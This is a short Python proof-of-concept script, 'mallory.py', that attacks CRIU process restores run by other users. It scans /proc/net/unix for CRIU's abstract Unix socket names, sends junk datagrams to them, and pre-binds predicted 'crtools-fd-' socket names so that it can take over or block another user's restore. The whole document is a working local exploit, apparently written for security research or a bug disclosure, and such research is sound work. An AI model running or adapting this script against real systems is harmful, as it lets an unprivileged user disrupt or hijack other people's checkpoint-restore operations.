"""Takes the names and fills the sockets of each CRIU that restores somebody's processes.

    mallory.py     goes on until it is killed; prints a line for each CRIU that she has seen
"""

import socket, time

kept, seen = [], set()
while True:
    with open("/proc/net/unix") as names:
        found = [line.split()[-1][2:] for line in names if "@/" in line]
    for name in found:
        if not name.startswith(("crtools-fd-", "criu-fdstore-")):
            continue
        for content in (b"", b"12345678"):
            one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            one.setblocking(False)
            try:
                one.sendto(content, "\0/" + name)
            except OSError:
                pass
            one.close()
        # What the names of this CRIU's sockets end in.
        run = name.split("-", 3)[-1]
        if run in seen:
            continue
        seen.add(run)
        for pid in range(1, 100):
            one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            try:
                one.bind(f"\0/crtools-fd-{pid}-{run}")
                kept.append(one)
            except OSError:
                one.close()
        print(run, flush=True)
    time.sleep(0)
